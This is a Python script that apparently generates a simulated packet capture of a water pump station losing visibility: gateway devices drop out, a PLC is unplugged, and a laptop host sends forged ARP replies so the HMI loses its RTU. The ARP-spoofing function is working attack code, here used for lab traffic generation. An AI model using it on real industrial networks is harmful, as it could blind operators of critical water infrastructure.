"""Water pump station that goes blind: devices behind a gateway are lost, an RTU is spoofed away, a PLC is unplugged.

python pcaps/modbus/visibility-loss.pcap.py OUT.pcap        (root, iproute2, pymodbus; about 75 s)
"""

from __future__ import annotations

import socket
import sys
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))

import modbus_parts as modbus
from plant import Host, main, pause, plant

PLC, RTU, GATEWAY, HMI, LAPTOP = "10.20.1.10", "10.20.1.11", "10.20.1.20", "10.20.1.5", "10.20.1.66"


def claim(address: str, liar: Host, victim: Host, seconds: int) -> None:
    """Tell the victim every five seconds that ``address`` is at the liar's MAC; what comes is dropped there."""

    def mac(text: str) -> bytes:
        return bytes.fromhex(text.replace(":", ""))

    reply = (
        mac(victim.mac) + mac(liar.mac) + b"\x08\x06\x00\x01\x08\x00\x06\x04\x00\x02"
        + mac(liar.mac) + socket.inet_aton(address) + mac(victim.mac) + socket.inet_aton(victim.ip)
    )  # fmt: skip
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sock.bind(("eth0", 0))
    for _ in range(0, seconds, 5):
        sock.send(reply)
        pause(5)


def story(out: str) -> None:
    with plant(out) as site:
        for name, ip in (("plc", PLC), ("rtu", RTU), ("gateway", GATEWAY), ("hmi", HMI), ("laptop", LAPTOP)):
            site.host(name, ip)
        site.start("plc", modbus.server, "Pump controller", [450, 380, 1200, 35, *range(60)], [True, False] * 8)
        site.start("rtu", modbus.server, "Reservoir RTU", [812, 640, 77, *range(60)], [False] * 16)
        site.start("gateway", modbus.gateway, 4, (3, 4), 310)
        pause(10)
        site.start("hmi", modbus.poll, [(PLC, 2), (RTU, 2), (GATEWAY, 5)], [], {GATEWAY: (1, 2, 3, 4)})
        pause(380)  # from 5:00 on, units 3 and 4 are gone
        site.do("laptop", claim, RTU, site.hosts["laptop"], site.hosts["hmi"], 90)
        pause(40)
        site.cable("plc", plugged=False)
        pause(70)
        site.cable("plc", plugged=True)
        pause(60)


if __name__ == "__main__":
    main(story)
